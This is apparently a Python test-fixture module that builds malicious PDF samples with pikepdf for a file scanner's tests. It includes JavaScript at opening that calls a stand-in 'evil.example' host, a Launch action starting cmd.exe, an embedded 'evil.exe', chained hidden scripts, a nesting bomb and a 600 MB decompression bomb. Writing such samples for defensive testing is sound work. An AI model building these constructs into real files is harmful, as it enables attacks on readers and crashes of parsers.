"""PDFs that act, carry something along, or break their reader."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.attachments.attack import Attack
from tests.factories.files import pdf

JS = "app.launchURL('http://evil.example')"


def action(kind: str, **more: object) -> Dictionary:
    """Something that a PDF does."""
    return Dictionary(S=Name(kind), **more)


def opens(kind: str, **more: object) -> bytes:
    """A PDF that does it when it is opened."""
    return pdf(lambda made: made.Root.__setattr__("OpenAction", action(kind, **more)))


def pdf_attacks() -> Iterator[Attack]:
    """All of them."""
    yield from _acting()
    yield from _carrying()
    yield from _breaking()


def _acting() -> Iterator[Attack]:
    yield Attack("a.pdf", opens("/JavaScript", JS=String(JS)), None, "script at opening", (b"JavaScript", b"launchURL"))
    yield Attack("a.pdf", opens("/Launch", F=String("cmd.exe")), None, "starts a program", (b"Launch", b"cmd.exe"))
    yield Attack("a.pdf", opens("/SubmitForm", F=String("http://e")), None, "sends a form", (b"SubmitForm",))
    yield Attack("a.pdf", opens("/GoToR", F=String(r"\\e\s")), None, "another file", (b"GoToR",))

    def names(made: Pdf) -> None:
        made.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), action("/JavaScript", JS=String(JS))]))
        )

    yield Attack("a.pdf", pdf(names), None, "script by name", (b"launchURL",))

    def hidden(made: Pdf) -> None:
        code = made.make_stream(JS.encode())
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
        link.A = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([action("/JavaScript", JS=code)]))
        made.pages[0].Annots = Array([made.make_indirect(link)])
        made.pages[0].AA = Dictionary(O=action("/JavaScript", JS=code))

    yield Attack("a.pdf", pdf(hidden), None, "script after a harmless step", (b"JavaScript", b"launchURL"))


def _carrying() -> Iterator[Attack]:
    def carries(made: Pdf) -> None:
        made.attachments["evil.exe"] = b"MZ this program"

    yield Attack("a.pdf", pdf(carries), None, "a file inside", (b"EmbeddedFile", b"this program", b"evil.exe"))

    def form(made: Pdf) -> None:
        made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, b"<xdp:xdp>evil</xdp:xdp>"))

    yield Attack("a.pdf", pdf(form), None, "XFA form", (b"XFA", b"xdp:xdp"))

    def media(made: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
        made.pages[0].Annots = Array([made.make_indirect(note)])

    yield Attack("a.pdf", pdf(media), None, "rich media", (b"RichMedia",))


def _breaking() -> Iterator[Attack]:
    locked = pikepdf.Encryption(owner="o", user="")
    yield Attack("a.pdf", pdf(encryption=locked), "encrypted", "encrypted, opens without a password")
    yield Attack("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted", "encrypted")
    yield Attack("a.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 400_000 + b"]" * 400_000, "damaged", "400,000 arrays deep")
    yield Attack("a.pdf", _unfolding(), "damaged", "objects that unfold to 600 MB")
    yield Attack("a.pdf", pdf()[:200], "damaged", "cut off")
    yield Attack("a.pdf", pdf(lambda made: signed(made, JS)), "signed_and_active", "signed, with a script")
    yield Attack("a.pdf", pdf(), None, "the author's name goes", ("Nguyễn".encode("utf-16-be"),))


def signed(made: Pdf, script: str | None) -> None:
    """A signature field (its cryptography is nobody's matter here)."""
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("00" * 64))
    field = Dictionary(FT=Name.Sig, V=made.make_indirect(signature), T=String("Ký số"))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]), SigFlags=3)
    if script:
        made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(script))


def _unfolding() -> bytes:
    """One stream of objects, 600 KB that unfold into 600 MB."""
    folder = zlib.compressobj(9)
    spaces = b" " * 1024 * 1024
    body = b"".join(
        [folder.compress(b"10 0 " + spaces), *(folder.compress(spaces) for _ in range(599)), folder.flush()]
    )
    head = b"%PDF-1.5\n"
    parts = head + b"5 0 obj\n<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>\nstream\n" % len(body)
    start = len(parts) + len(body) + len(b"\nendstream\nendobj\n")
    rows = bytes([0, 0, 0, 0, 0, 255]) + bytes([2, 0, 0, 0, 5, 0])
    index = rows[:6] + rows[6:]
    parts += body + b"\nendstream\nendobj\n"
    fields = b"/W[1 4 1]/Index[0 1 10 1]/Size 11/Root 10 0 R/Length %d" % len(index)
    return (
        parts
        + b"6 0 obj\n<</Type/XRef"
        + fields
        + b">>\nstream\n"
        + index
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
